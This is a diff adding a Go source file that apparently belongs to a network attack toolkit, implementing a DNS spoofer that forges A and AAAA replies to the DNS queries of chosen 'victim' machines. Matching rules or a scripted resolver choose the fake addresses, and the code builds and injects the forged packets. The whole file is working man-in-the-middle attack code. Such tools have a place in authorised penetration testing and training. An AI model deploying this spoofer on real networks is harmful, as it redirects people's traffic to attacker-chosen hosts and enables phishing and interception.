@@ -0,0 +1,376 @@
+package spoof
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/shoriwe/CAPitan/internal/data/objects"
+	"github.com/shoriwe/CAPitan/internal/tools"
+	"github.com/shoriwe/gplasma"
+	"github.com/shoriwe/gplasma/pkg/std/features/importlib"
+	"github.com/shoriwe/gplasma/pkg/std/modules/base64"
+	"github.com/shoriwe/gplasma/pkg/std/modules/json"
+	"github.com/shoriwe/gplasma/pkg/std/modules/regex"
+	"github.com/shoriwe/gplasma/pkg/vm"
+	"net"
+	"regexp"
+	"strings"
+	"sync"
+	"time"
+)
+
+// Ways a DNS rule matches the queried names, which are lower cased and lose their trailing dot. Regex rules match
+// them case insensitively
+const (
+	ExactRule    = "exact"
+	WildcardRule = "wildcard"
+	RegexRule    = "regex"
+)
+
+const (
+	dnsPort      = 53
+	dnsAnswerTTL = 60
+	// MaxDNSRules limits how many rules a single session can have
+	MaxDNSRules = 256
+)
+
+var failedToConvertErrorToString = errors.New("failed to convert the script error to string")
+
+// DNSRule answers the queries for the names matching the pattern with the address, as an A record for IPv4
+// addresses and as an AAAA record for IPv6 ones
+type DNSRule struct {
+	Kind    string
+	Pattern string
+	Address string
+}
+
+type compiledDNSRule struct {
+	matches func(name string) bool
+	address net.IP
+}
+
+// DNSSpoofer decides the forged answers of the DNS queries sent by the victims of a spoof
+type DNSSpoofer struct {
+	rules          []compiledDNSRule
+	resolver       func(name, recordType string) (net.IP, error)
+	virtualMachine *gplasma.VirtualMachine
+	machineContext *vm.Context
+	mutex          *sync.Mutex
+	answers        []objects.DNSSpoofedAnswer
+	resolverErrors []error
+	// Answered is signaled when forged answers or resolver errors are waiting to be taken with TakeAnswers
+	Answered chan struct{}
+}
+
+// record keeps the answer sent to a victim until it is taken, none is dropped however slow the session reads them
+func (spoofer *DNSSpoofer) record(answer objects.DNSSpoofedAnswer) {
+	spoofer.mutex.Lock()
+	spoofer.answers = append(spoofer.answers, answer)
+	spoofer.mutex.Unlock()
+	spoofer.signal()
+}
+
+// recordError keeps the error of the resolver script until it is taken, the query that caused it is forwarded
+func (spoofer *DNSSpoofer) recordError(resolverError error) {
+	spoofer.mutex.Lock()
+	spoofer.resolverErrors = append(spoofer.resolverErrors, resolverError)
+	spoofer.mutex.Unlock()
+	spoofer.signal()
+}
+
+func (spoofer *DNSSpoofer) signal() {
+	select {
+	case spoofer.Answered <- struct{}{}:
+	default:
+	}
+}
+
+// TakeAnswers returns the forged answers sent and the errors of the resolver script since the last call, oldest
+// first
+func (spoofer *DNSSpoofer) TakeAnswers() ([]objects.DNSSpoofedAnswer, []error) {
+	spoofer.mutex.Lock()
+	defer spoofer.mutex.Unlock()
+	answers, resolverErrors := spoofer.answers, spoofer.resolverErrors
+	spoofer.answers, spoofer.resolverErrors = nil, nil
+	return answers, resolverErrors
+}
+
+func normalizeName(name string) string {
+	return strings.TrimSuffix(strings.ToLower(name), ".")
+}
+
+func compileDNSRule(rule DNSRule) (compiledDNSRule, error) {
+	address := normalize(net.ParseIP(rule.Address))
+	if address == nil {
+		return compiledDNSRule{}, fmt.Errorf("invalid address %s for %s", rule.Address, rule.Pattern)
+	}
+	pattern := normalizeName(rule.Pattern)
+	if len(pattern) == 0 {
+		return compiledDNSRule{}, errors.New("empty DNS rule pattern")
+	}
+	switch rule.Kind {
+	case ExactRule, "":
+		return compiledDNSRule{
+			matches: func(name string) bool {
+				return name == pattern
+			},
+			address: address,
+		}, nil
+	case WildcardRule:
+		expression := regexp.MustCompile("^" + strings.ReplaceAll(regexp.QuoteMeta(pattern), "\\*", ".*") + "$")
+		return compiledDNSRule{
+			matches: expression.MatchString,
+			address: address,
+		}, nil
+	case RegexRule:
+		expression, compileError := regexp.Compile("(?i)" + rule.Pattern)
+		if compileError != nil {
+			return compiledDNSRule{}, compileError
+		}
+		return compiledDNSRule{
+			matches: expression.MatchString,
+			address: address,
+		}, nil
+	}
+	return compiledDNSRule{}, fmt.Errorf("unknown DNS rule kind %s", rule.Kind)
+}
+
+func (spoofer *DNSSpoofer) scriptError(result *vm.Value) error {
+	toString, getError := result.Get(spoofer.virtualMachine.Plasma, spoofer.machineContext, vm.ToString)
+	if getError != nil {
+		return failedToConvertErrorToString
+	}
+	errorAsString, succeed := spoofer.virtualMachine.CallFunction(spoofer.machineContext, toString)
+	if !succeed {
+		return failedToConvertErrorToString
+	}
+	return errors.New(errorAsString.String)
+}
+
+func (spoofer *DNSSpoofer) loadVMFeatures() vm.Feature {
+	return vm.Feature{
+		"LoadDNSResolver": func(context *vm.Context, plasma *vm.Plasma) *vm.Value {
+			return plasma.NewFunction(context, true, plasma.BuiltInSymbols(),
+				vm.NewBuiltInFunction(1,
+					func(self *vm.Value, arguments ...*vm.Value) (*vm.Value, bool) {
+						spoofer.resolver = func(name, recordType string) (net.IP, error) {
+							result, succeed := spoofer.virtualMachine.CallFunction(
+								spoofer.machineContext,
+								arguments[0],
+								spoofer.virtualMachine.NewString(spoofer.machineContext, false, name),
+								spoofer.virtualMachine.NewString(spoofer.machineContext, false, recordType),
+							)
+							if !succeed {
+								return nil, spoofer.scriptError(result)
+							}
+							if result.IsTypeById(vm.NoneId) {
+								return nil, nil
+							}
+							if !result.IsTypeById(vm.StringId) {
+								return nil, errors.New("DNS resolver result is not string")
+							}
+							address := normalize(net.ParseIP(result.String))
+							if address == nil {
+								return nil, fmt.Errorf("DNS resolver returned the invalid address %s", result.String)
+							}
+							return address, nil
+						}
+						return plasma.GetNone(), true
+					},
+				),
+			)
+		},
+	}
+}
+
+// lookup returns the forged address for the query, nil when it should be forwarded to the real server. A failing
+// resolver script does not stop the session, its error is recorded and the query forwarded
+func (spoofer *DNSSpoofer) lookup(name string, recordType layers.DNSType) net.IP {
+	wantsIPv4 := recordType == layers.DNSTypeA
+	for _, rule := range spoofer.rules {
+		if (rule.address.To4() != nil) == wantsIPv4 && rule.matches(name) {
+			return rule.address
+		}
+	}
+	if spoofer.resolver == nil {
+		return nil
+	}
+	address, resolveError := spoofer.resolver(name, recordType.String())
+	if resolveError != nil {
+		spoofer.recordError(fmt.Errorf("DNS resolver failed for %s: %s", name, resolveError))
+		return nil
+	}
+	if address == nil || (address.To4() != nil) != wantsIPv4 {
+		return nil
+	}
+	return address
+}
+
+// answerDNS replies the DNS query carried by the frame when the spoofer has an answer for it, the query is then not
+// forwarded to the real server
+func (engine *Engine) answerDNS(data []byte) (bool, error) {
+	packet := gopacket.NewPacket(data, layers.LayerTypeEthernet, gopacket.Default)
+	ethernetLayer, _ := packet.Layer(layers.LayerTypeEthernet).(*layers.Ethernet)
+	udpLayer, _ := packet.Layer(layers.LayerTypeUDP).(*layers.UDP)
+	dnsLayer, _ := packet.Layer(layers.LayerTypeDNS).(*layers.DNS)
+	if ethernetLayer == nil || udpLayer == nil || dnsLayer == nil || udpLayer.DstPort != dnsPort || dnsLayer.QR || len(dnsLayer.Questions) != 1 {
+		return false, nil
+	}
+	question := dnsLayer.Questions[0]
+	if question.Class != layers.DNSClassIN || (question.Type != layers.DNSTypeA && question.Type != layers.DNSTypeAAAA) {
+		return false, nil
+	}
+	// Only the queries of the victims are answered, the gateway keeps resolving normally
+	if !engine.isVictimMAC(ethernetLayer.SrcMAC) {
+		return false, nil
+	}
+	name := normalizeName(string(question.Name))
+	address := engine.dnsSpoofer.lookup(name, question.Type)
+	if address == nil {
+		return false, nil
+	}
+
+	var (
+		networkLayer gopacket.NetworkLayer
+		clientIP     net.IP
+	)
+	switch ip := packet.NetworkLayer().(type) {
+	case *layers.IPv4:
+		clientIP = ip.SrcIP
+		networkLayer = &layers.IPv4{
+			Version:  4,
+			TTL:      64,
+			Protocol: layers.IPProtocolUDP,
+			SrcIP:    ip.DstIP,
+			DstIP:    ip.SrcIP,
+		}
+	case *layers.IPv6:
+		clientIP = ip.SrcIP
+		networkLayer = &layers.IPv6{
+			Version:    6,
+			HopLimit:   64,
+			NextHeader: layers.IPProtocolUDP,
+			SrcIP:      ip.DstIP,
+			DstIP:      ip.SrcIP,
+		}
+	default:
+		return false, nil
+	}
+	answer := layers.DNSResourceRecord{
+		Name:  question.Name,
+		Type:  question.Type,
+		Class: layers.DNSClassIN,
+		TTL:   dnsAnswerTTL,
+		IP:    address,
+	}
+	replyUDP := layers.UDP{
+		SrcPort: udpLayer.DstPort,
+		DstPort: udpLayer.SrcPort,
+	}
+	checksumError := replyUDP.SetNetworkLayerForChecksum(networkLayer)
+	if checksumError != nil {
+		return false, checksumError
+	}
+	buf := gopacket.NewSerializeBuffer()
+	opts := gopacket.SerializeOptions{
+		FixLengths:       true,
+		ComputeChecksums: true,
+	}
+	serializationError := gopacket.SerializeLayers(buf, opts,
+		&layers.Ethernet{
+			SrcMAC:       engine.interfaceMAC,
+			DstMAC:       ethernetLayer.SrcMAC,
+			EthernetType: ethernetLayer.EthernetType,
+		},
+		networkLayer.(gopacket.SerializableLayer),
+		&replyUDP,
+		&layers.DNS{
+			ID:           dnsLayer.ID,
+			QR:           true,
+			OpCode:       dnsLayer.OpCode,
+			RD:           dnsLayer.RD,
+			RA:           true,
+			ResponseCode: layers.DNSResponseCodeNoErr,
+			Questions:    dnsLayer.Questions,
+			Answers:      []layers.DNSResourceRecord{answer},
+		},
+	)
+	if serializationError != nil {
+		return false, serializationError
+	}
+	writeError := engine.forwardHandle.WritePacketData(buf.Bytes())
+	if writeError != nil {
+		return false, writeError
+	}
+	engine.dnsSpoofer.record(
+		objects.DNSSpoofedAnswer{
+			Time:    time.Now(),
+			Client:  clientIP.String(),
+			Name:    name,
+			Type:    question.Type.String(),
+			Address: address.String(),
+		},
+	)
+	return true, nil
+}
+
+func (engine *Engine) isVictimMAC(mac net.HardwareAddr) bool {
+	engine.Lock()
+	defer engine.Unlock()
+	for _, v := range engine.victims {
+		if bytes.Equal(v.mac, mac) {
+			return true
+		}
+	}
+	return false
+}
+
+// SetDNSSpoofer makes the forwarder answer the DNS queries of the victims the spoofer has an answer for,
+// it should be called before StartForwarding
+func (engine *Engine) SetDNSSpoofer(spoofer *DNSSpoofer) {
+	engine.dnsSpoofer = spoofer
+}
+
+// NewDNSSpoofer compiles the rules and runs the script, that can register a resolver function with
+// LoadDNSResolver. The resolver receives the queried name and record type and returns the forged address or None
+func NewDNSSpoofer(rules []DNSRule, script string) (*DNSSpoofer, error) {
+	if len(rules) > MaxDNSRules {
+		return nil, fmt.Errorf("no more than %d DNS rules are allowed", MaxDNSRules)
+	}
+	spoofer := &DNSSpoofer{
+		mutex:    new(sync.Mutex),
+		Answered: make(chan struct{}, 1),
+	}
+	for _, rule := range rules {
+		compiled, compileError := compileDNSRule(rule)
+		if compileError != nil {
+			return nil, compileError
+		}
+		spoofer.rules = append(spoofer.rules, compiled)
+	}
+	if len(script) == 0 {
+		return spoofer, nil
+	}
+	spoofer.virtualMachine = gplasma.NewVirtualMachine()
+	spoofer.virtualMachine.Stdin = &bytes.Buffer{}
+	spoofer.virtualMachine.Stdout = &bytes.Buffer{}
+	spoofer.virtualMachine.Stderr = &bytes.Buffer{}
+	spoofer.virtualMachine.LoadFeature(spoofer.loadVMFeatures())
+	importer := importlib.NewImporter()
+	importer.LoadModule(json.JSON)
+	importer.LoadModule(base64.Base64)
+	importer.LoadModule(regex.Regex)
+	spoofer.virtualMachine.LoadFeature(importer.Result(&tools.SecuredFileSystem{}, &tools.SecuredFileSystem{}))
+	spoofer.machineContext = spoofer.virtualMachine.NewContext()
+
+	result, succeed := spoofer.virtualMachine.ExecuteMain(script)
+	if !succeed {
+		return nil, spoofer.scriptError(result)
+	}
+	if spoofer.resolver == nil {
+		return nil, errors.New("DNS resolver never specified")
+	}
+	return spoofer, nil
+}